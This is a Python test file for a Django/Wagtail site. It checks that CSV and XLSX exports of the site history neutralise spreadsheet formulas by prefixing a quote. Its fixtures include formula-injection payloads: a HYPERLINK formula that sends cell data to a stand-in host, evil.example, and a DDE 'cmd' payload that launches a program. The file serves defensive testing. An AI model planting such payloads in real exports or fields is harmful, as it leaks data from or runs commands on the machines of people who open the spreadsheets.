"""Spreadsheets the site writes open without running a formula someone typed as a name."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from django.contrib.auth import get_user_model
from django.test import RequestFactory
from django.utils import translation

from wagtail.admin.views.reports.audit_logging import LogEntriesView
from wagtail.log_actions import log

from core.spreadsheets import SafeSpreadsheetExportMixin, neutralise_cell
from tests import factories

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+32 470 12 34 56", "'+32 470 12 34 56"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Klopboormachine", "Klopboormachine"),
        ("BO-0001", "BO-0001"),
        ("", ""),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(value, written):
    assert neutralise_cell(value) == written


class SafeSiteHistory(SafeSpreadsheetExportMixin, LogEntriesView):
    """The site history as a project view would protect it."""


@pytest.fixture
def history_with_a_formula(db):
    """A site history with an item named like a formula, by a user named like one."""
    user = get_user_model().objects.create_superuser(
        "redacteur", "redacteur@deelfabriek.example", "x", first_name="@SUM(1+1)", last_name=""
    )
    home = factories.build_home()
    log(instance=home, action="wagtail.edit", user=user, title=FORMULA)
    return user


def export(view_class, user, export_format):
    request = RequestFactory().get("/admin/reports/site-history/", {"export": export_format})
    request.user = user
    with translation.override("en"):
        response = view_class.as_view()(request)
        assert response.status_code == 200
        return b"".join(response.streaming_content)  # a CSV is written while it is read


def test_the_site_history_as_csv_shows_formulas_as_text(history_with_a_formula):
    rows = list(
        csv.reader(io.StringIO(export(SafeSiteHistory, history_with_a_formula, "csv").decode()))
    )

    assert rows[0][:2] == ["ID", "Name"]
    entry = rows[1]
    assert entry[1] == "'" + FORMULA
    assert entry[4] == "'@SUM(1+1)"
    # Wagtail's own view writes them as they are: the mixin is what makes the difference.
    unsafe = export(LogEntriesView, history_with_a_formula, "csv").decode()
    assert f'"{FORMULA.replace(chr(34), chr(34) * 2)}"' in unsafe


def test_the_site_history_as_xlsx_shows_formulas_as_text(history_with_a_formula):
    sheet = load_workbook(
        io.BytesIO(export(SafeSiteHistory, history_with_a_formula, "xlsx"))
    ).active
    rows = list(sheet.iter_rows(values_only=True))

    assert rows[0][:2] == ("ID", "Name")
    assert rows[1][1] == "'" + FORMULA
    assert rows[1][4] == "'@SUM(1+1)"
    assert sheet.cell(row=2, column=2).data_type == "s"
